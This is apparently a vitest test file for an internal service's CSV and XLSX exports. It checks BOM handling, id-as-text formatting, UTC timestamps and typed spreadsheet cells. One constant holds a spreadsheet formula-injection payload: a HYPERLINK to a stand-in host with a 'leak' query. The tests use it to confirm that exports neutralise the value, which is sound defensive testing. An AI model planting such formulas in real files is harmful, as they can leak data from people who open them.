import { strFromU8, unzipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ZJobSchema, type TApplyPaymentsResult } from '@keystone/contracts';
import { carrierFile } from '../src/modules/shipping-reconciliation/carrier-files.js';
import { readCsvRecords } from './csv-read.js';
import { createProducts, createSignedInUser, unique } from './factories.js';
import { bearer, createTestApp, type TestApp } from './harness.js';
import { waitForJob } from './report-kit.js';
import { invoiceUploadForm } from './samples/shipping-reconciliation.js';

/**
 * Spreadsheet-ready files (issue 31 item 8): every CSV starts with the UTF-8 BOM once, so Excel opens it as UTF-8;
 * read back by papaparse (which drops the BOM, as Excel does); ids of digits written ="…" so a spreadsheet keeps them
 * text, anything else in an id column neutralised as before; timestamps as UTC 'YYYY-MM-DD HH:MM:SS'.
 */
let t: TestApp;
let developer: string;
let finance: string;
let batchId: number;

const get = (url: string, token = developer) => t.app.inject({ method: 'GET', url, headers: bearer(token) });
const today = new Date().toISOString().slice(0, 10);
/** A FedEx-style tracking number: 12 digits, which Excel would show as 7.94612E+11. */
const tracking = `7946${String(Date.now() % 1e8).padStart(8, '0')}`;
const tracking2 = String(Number(tracking) + 1);
const poNumber = '000123456789012';
const HOSTILE_PO = '=HYPERLINK("http://x.example/?leak","click")';

/** The bytes EF BB BF at the very start, and nowhere else. */
function expectOneBom(payload: Buffer): void {
  expect([...payload.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  expect(payload.indexOf(Buffer.from([0xef, 0xbb, 0xbf]), 3)).toBe(-1);
}

beforeAll(async () => {
  t = await createTestApp({ jobsEnabled: false });
  developer = (await createSignedInUser(t, { role: 'developer' })).token;
  finance = (await createSignedInUser(t, { role: 'purchasing-1' })).token;
  const intake = await t.app.inject({
    method: 'POST',
    url: '/api/shipping-reconciliation/gray-boxes',
    headers: bearer(finance),
    payload: {
      grayBoxes: [
        {
          tracking_number: tracking,
          fulfillment_po_number: poNumber,
          date_shipped: today,
          ship_company: 'UPS',
          fulfillment_warehouse: 'KY01',
          shipping_quote: 10,
        },
        {
          tracking_number: tracking2,
          fulfillment_po_number: HOSTILE_PO,
          date_shipped: today,
          ship_company: 'UPS',
          fulfillment_warehouse: 'KY01',
          shipping_quote: 10,
        },
      ],
    },
  });
  expect(intake.statusCode, intake.body).toBe(200);
  const uploaded = await t.app.inject({
    method: 'POST',
    url: '/api/shipping-reconciliation/ups/upload',
    headers: bearer(finance),
    payload: invoiceUploadForm(
      carrierFile('ups', [
        { trackingNumber: tracking, cents: 1250, date: today },
        { trackingNumber: tracking2, cents: 1000, date: today },
      ]),
      'sheets.csv',
    ),
  });
  expect(uploaded.statusCode, uploaded.body).toBe(200);
  const generated = await get(
    `/api/shipping-reconciliation/ups/generate?filename=${encodeURIComponent(uploaded.json().filename)}`,
    finance,
  );
  expect(generated.statusCode, generated.body).toBe(200);
  const applied = await t.app.inject({
    method: 'PUT',
    url: '/api/shipping-reconciliation/update',
    headers: bearer(finance),
    payload: {
      idempotencyKey: unique('sheets-batch'),
      updates: {
        [tracking]: { reported_billed_charge: 12.5, payment_to_apply: 12.5 },
        [tracking2]: { reported_billed_charge: 10, payment_to_apply: 10 },
      },
    },
  });
  expect(applied.statusCode, applied.body).toBe(200);
  batchId = (applied.json() as TApplyPaymentsResult).batchId;
});
afterAll(() => t?.close());

describe('CSV files start with the UTF-8 BOM, once', () => {
  it('a streamed report CSV of several batches (more than 500 rows)', async () => {
    const model = unique('BOM').toUpperCase();
    await createProducts(
      t.db,
      Array.from({ length: 1_200 }, (_, i) => ({
        modelNumber: `${model}-${String(i).padStart(4, '0')}`,
        description: 'Café é',
        currentCostCents: 0,
        mapCents: null,
      })),
    );
    const res = await get('/api/reports/generic/products-missing-cost/csv');
    expect(res.statusCode, res.body).toBe(200);
    expectOneBom(res.rawPayload);
    const rows = readCsvRecords(res.body).filter((r) => r.Model!.startsWith(model));
    expect(rows).toHaveLength(1_200);
    expect(rows[0]!.Description).toBe('Café é');
  });

  it('a CSV streamed in pages (the inventory as-of export), even with no rows', async () => {
    const res = await get(`/api/ims/reporting/inventory/ge-on-hand-export?date=${today}`);
    expect(res.statusCode, res.body).toBe(200);
    expectOneBom(res.rawPayload);
    expect(res.body.slice(1).startsWith('As Of Date,Model,UPC')).toBe(true);
  });

  it("a report job's file", async () => {
    const queued = await t.app.inject({
      method: 'POST',
      url: '/api/reports/generic/price-list/csv-jobs',
      headers: bearer(developer),
      payload: { parameters: {} },
    });
    expect(queued.statusCode, queued.body).toBe(202);
    const job = ZJobSchema.parse(queued.json());
    expect((await waitForJob(t, job.id)).status).toBe('succeeded');
    const file = await get(`/api/reports/csv-jobs/${job.id}/file`);
    expect(file.statusCode, file.body).toBe(200);
    expectOneBom(file.rawPayload);
    expect(Number(file.headers['content-length'])).toBe(file.rawPayload.length);
  });

  it('the shipping payment batch CSV', async () => {
    const csv = await get(`/api/shipping-reconciliation/updates/${batchId}?format=csv`, finance);
    expect(csv.statusCode, csv.body).toBe(200);
    expectOneBom(csv.rawPayload);
    expect(readCsvRecords(csv.body)).toHaveLength(2);
  });
});

describe('CSV ids stay text, timestamps are a form Excel reads', () => {
  it('the shipping payment batch CSV: tracking and PO numbers of digits as ="…", a hostile PO number neutralised, applied_at UTC without T and Z', async () => {
    const csv = await get(`/api/shipping-reconciliation/updates/${batchId}?format=csv`, finance);
    const rows = new Map(readCsvRecords(csv.body).map((r) => [r.tracking_number, r]));
    expect(rows.get(`="${tracking}"`)).toMatchObject({
      fulfillment_po_number: `="${poNumber}"`,
      date_shipped: today,
      payment_to_apply: '12.50',
    });
    expect(rows.get(`="${tracking2}"`)).toMatchObject({ fulfillment_po_number: `'${HOSTILE_PO}` });
    const appliedAt = rows.get(`="${tracking}"`)!.applied_at!;
    expect(appliedAt).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}$/);
    expect(Math.abs(Date.parse(`${appliedAt.replace(' ', 'T')}Z`) - Date.now())).toBeLessThan(10 * 60_000);
  });

  it('a generic report: an id column (Tracking Number) of digits as ="…"; a date column as YYYY-MM-DD', async () => {
    const res = await get(`/api/reports/generic/shipping-not-matched/csv?from=${today}&to=${today}`);
    expect(res.statusCode, res.body).toBe(200);
    const row = readCsvRecords(res.body).find((r) => r['Tracking Number'] === `="${tracking}"`);
    expect(row, res.body).toMatchObject({ Shipped: today, Billed: '12.50' });
  });

  it("a generic report's timestamp column as UTC 'YYYY-MM-DD HH:MM:SS'", async () => {
    const model = unique('NOUPC').toUpperCase();
    await createProducts(t.db, [{ modelNumber: model, upc: null, alternateUpc: null }]);
    const res = await get('/api/reports/generic/products-missing-upc/csv');
    expect(res.statusCode, res.body).toBe(200);
    const row = readCsvRecords(res.body).find((r) => r.Model === model);
    expect(row, res.body).toBeDefined();
    expect(row!.Created).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}$/);
  });
});

/** XML entities of a cell's text as the sheet writes them. */
const unescapeXml = (text: string) =>
  text
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&quot;/g, '"')
    .replace(/&apos;/g, "'")
    .replace(/&amp;/g, '&');

/**
 * An XLSX read back without exceljs: the zip opened by fflate, the first sheet's cells, the shared strings and the
 * cell styles' number formats read from their XML. Each cell: its type attribute (`s` shared string, `str`,
 * `inlineStr`, none for a number), its text (a shared string resolved) and its number format's code.
 */
function readXlsx(payload: Buffer): Map<string, { t: string | null; text: string; format: string | null }> {
  const files = unzipSync(new Uint8Array(payload));
  const xml = (name: string) => strFromU8(files[name]!);
  const shared = [...xml('xl/sharedStrings.xml').matchAll(/<si>([\s\S]*?)<\/si>/g)].map((m) =>
    unescapeXml([...m[1]!.matchAll(/<t[^>]*>([\s\S]*?)<\/t>/g)].map((t) => t[1]).join('')),
  );
  const styles = xml('xl/styles.xml');
  const customFormats = new Map(
    [...styles.matchAll(/<numFmt numFmtId="(\d+)" formatCode="([^"]*)"/g)].map((m) => [
      Number(m[1]),
      unescapeXml(m[2]!),
    ]),
  );
  const builtin: Record<number, string> = { 0: 'General', 14: 'm/d/yyyy', 22: 'm/d/yyyy h:mm' };
  const xfs = [.../<cellXfs[^>]*>([\s\S]*?)<\/cellXfs>/.exec(styles)![1]!.matchAll(/<xf [^>]*numFmtId="(\d+)"/g)].map(
    (m) => Number(m[1]),
  );
  const cells = new Map<string, { t: string | null; text: string; format: string | null }>();
  for (const m of xml('xl/worksheets/sheet1.xml').matchAll(/<c r="([A-Z]+\d+)"([^>]*?)(?:\/>|>([\s\S]*?)<\/c>)/g)) {
    const attributes = m[2]!;
    const t = /\bt="(\w+)"/.exec(attributes)?.[1] ?? null;
    const style = Number(/\bs="(\d+)"/.exec(attributes)?.[1] ?? 0);
    const inner = m[3] ?? '';
    const raw = unescapeXml(/<v>([\s\S]*?)<\/v>/.exec(inner)?.[1] ?? /<t[^>]*>([\s\S]*?)<\/t>/.exec(inner)?.[1] ?? '');
    const id = xfs[style] ?? 0;
    cells.set(m[1]!, {
      t,
      text: t === 's' ? shared[Number(raw)]! : raw,
      format: customFormats.get(id) ?? builtin[id] ?? null,
    });
  }
  return cells;
}

describe('the XLSX download has typed cells', () => {
  it('ids are text cells, the shipping date a date cell, applied_at a date-time cell, money numbers with 0.00 (read from the XML)', async () => {
    const res = await get(`/api/shipping-reconciliation/updates/${batchId}`, finance);
    expect(res.statusCode).toBe(200);
    const cells = readXlsx(res.rawPayload);
    const header = new Map<string, string>();
    for (const [ref, cell] of cells) if (/^[A-Z]+1$/.test(ref)) header.set(cell.text, ref.replace(/\d+$/, ''));
    const row = [2, 3].find((r) => cells.get(`${header.get('tracking_number')}${r}`)?.text === tracking)!;
    expect(row).toBeDefined();
    const cell = (name: string) => cells.get(`${header.get(name)}${row}`)!;
    for (const name of ['tracking_number', 'fulfillment_po_number'])
      expect(['s', 'str', 'inlineStr'], name).toContain(cell(name).t);
    expect(cell('tracking_number').text).toBe(tracking);
    expect(cell('fulfillment_po_number').text).toBe(poNumber);
    // A date is a number (days since 1899-12-30) with a date format.
    const shipped = cell('date_shipped');
    expect(shipped.t).toBeNull();
    expect(shipped.format).toMatch(/y+-m+-d+/);
    expect(Number(shipped.text)).toBe(Date.parse(`${today}T00:00:00Z`) / 86_400_000 + 25_569);
    const applied = cell('applied_at');
    expect(applied.t).toBeNull();
    expect(applied.format).toMatch(/y+-m+-d+ h+:m+/);
    expect(Math.abs(((Number(applied.text) - 25_569) * 86_400_000 - Date.now()) / 60_000)).toBeLessThan(10);
    const paid = cell('payment_to_apply');
    expect(paid.t).toBeNull();
    expect(Number(paid.text)).toBe(12.5);
    expect(paid.format).toContain('0.00');
  });
});
